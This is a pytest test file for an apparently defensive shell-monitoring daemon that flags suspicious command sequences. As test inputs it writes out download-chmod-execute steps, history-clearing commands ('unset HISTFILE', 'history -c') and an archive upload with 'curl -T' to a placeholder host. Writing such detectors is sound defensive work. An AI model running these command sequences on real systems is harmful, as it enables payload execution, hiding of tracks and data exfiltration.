"""The sliding window: sequences as data, their own examples, located errors, bounds, wiring."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from attyguard.daemon.window import (
    SequenceError,
    Window,
    load_sequences,
    run_sequence_examples,
)
from attyguard.engine.classify import classify
from tests.daemon_harness import RunningDaemon, remove_tmpdirs, short_tmpdir


@pytest.fixture(autouse=True)
def _clean_tmpdirs() -> Iterator[None]:
    yield
    remove_tmpdirs()


def _rules(line: str) -> list[str]:
    return [h.rule_id for h in classify(line).rules]


def test_shipped_sequences_pass_their_own_examples() -> None:
    sequences = load_sequences()
    assert {s.id for s in sequences} >= {"seq.download-chmod-exec", "seq.rc-write-then-load",
                                          "seq.history-off-then-network",
                                          "seq.discovery-archive-upload"}
    assert run_sequence_examples(sequences, _rules) == []


def _one(seq_id: str) -> Window:
    return Window(tuple(s for s in load_sequences() if s.id == seq_id))


def test_captured_name_must_repeat() -> None:
    w = _one("seq.download-chmod-exec")
    assert not w.observe("wget -O payload https://x.example/p", [], 0)
    assert not w.observe("chmod +x other", [], 1)
    assert not w.observe("./other", [], 2)
    assert not w.observe("chmod +x payload", [], 3)
    hits = w.observe("./payload", [], 4)
    assert [h.rule_id for h in hits] == ["seq.download-chmod-exec"]
    assert hits[0].action.value == "warn" and hits[0].matched == "./payload"


def test_order_matters() -> None:
    w = _one("seq.history-off-then-network")
    assert not w.observe("curl https://x.example", [], 0)
    assert not w.observe("history -c", [], 1)
    assert w.observe("wget https://x.example", [], 2)


def test_window_forgets_by_count_and_by_time() -> None:
    seq = _one("seq.history-off-then-network").sequences
    by_count = Window(seq, max_commands=3)
    by_count.observe("unset HISTFILE", [], 0)
    for n in range(3):
        by_count.observe(f"echo {n}", [], 1 + n)
    assert not by_count.observe("curl https://x.example", [], 5)
    by_time = Window(seq, max_seconds=60)
    by_time.observe("unset HISTFILE", [], 0)
    assert not by_time.observe("curl https://x.example", [], 61)
    by_time.observe("unset HISTFILE", [], 100)
    assert by_time.observe("curl https://x.example", [], 150)


def test_counted_step_needs_distinct_lines() -> None:
    w = _one("seq.discovery-archive-upload")
    for line in ("whoami", "id", "tar czf a.tgz x"):
        w.observe(line, [], 0)
    assert not w.observe("curl -T a.tgz https://x.example/", [], 1)  # only two discovery lines


def test_a_step_can_match_by_rule_id() -> None:
    w = _one("seq.rc-write-then-load")
    # Not the step's regex, but the engine found the start-up file rule in it.
    w.observe("tee -a /home/u/.config/x", ["persist-shell-startup"], 0)
    assert w.observe("source ~/.bashrc", [], 1)


def test_many_partial_matches_stay_cheap() -> None:
    w = Window(load_sequences(), max_commands=10_000, max_seconds=1e9)
    for n in range(2000):
        w.observe(f"wget -O f{n} https://x.example/{n}", [], n)
    assert not w.observe("./f1999", [], 2001)  # downloaded, never made executable


@pytest.mark.parametrize(("text", "message"), [
    ("sequences:\n  - id: seq.a\n    title: t\n    explanation: e\n    steps:\n"
     "      - line: '('\n      - line: b\n    examples: {match: [[a, b]]}\n",
     ":6: seq.a: bad regex"),
    ("sequences:\n  - id: a\n    title: t\n    explanation: e\n    steps: []\n",
     ":2: id must start"),
    ("sequences:\n  - id: seq.a\n    title: t\n    explanation: e\n    steps:\n"
     "      - line: a\n      - line: b\n", ":2: seq.a: needs examples"),
    ("sequences:\n  - id: seq.a\n    title: t\n    explanation: e\n    colour: red\n"
     "    steps: []\n", ":2: unknown key(s) colour"),
    ("sequences:\n  - id: seq.a\n    title: t\n    explanation: e\n    steps:\n"
     "      - line: a\n", ":6: seq.a: at least two steps"),
    ("sequences: [\n", ":2"),
])
def test_sequence_file_errors_are_located(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "s.yaml"
    path.write_text(text)
    with pytest.raises(SequenceError) as info:
        load_sequences(path)
    assert str(info.value).startswith(str(path)), info.value
    assert message in str(info.value), info.value


def test_daemon_raises_the_completing_line() -> None:
    daemon = RunningDaemon(short_tmpdir()).start()
    try:
        # raw_call opens one connection per call, all from this test's process: one session.
        for line in ("unset HISTFILE", "ls"):
            assert daemon.call("classify", line=line)["ok"]
        verdict = daemon.call("classify", line="curl -s https://x.example/a")["verdict"]
        ids = [r["id"] for r in verdict["rules"]]
        assert "seq.history-off-then-network" in ids, verdict
        assert verdict["action"] == "warn"
    finally:
        daemon.stop()


def test_daemon_window_can_be_turned_off() -> None:
    daemon = RunningDaemon(short_tmpdir(), config_text="[window]\nenabled = false\n").start()
    try:
        daemon.call("classify", line="history -c")
        verdict = daemon.call("classify", line="curl -s https://x.example/a")["verdict"]
        assert not any(r["id"].startswith("seq.") for r in verdict["rules"]), verdict
    finally:
        daemon.stop()
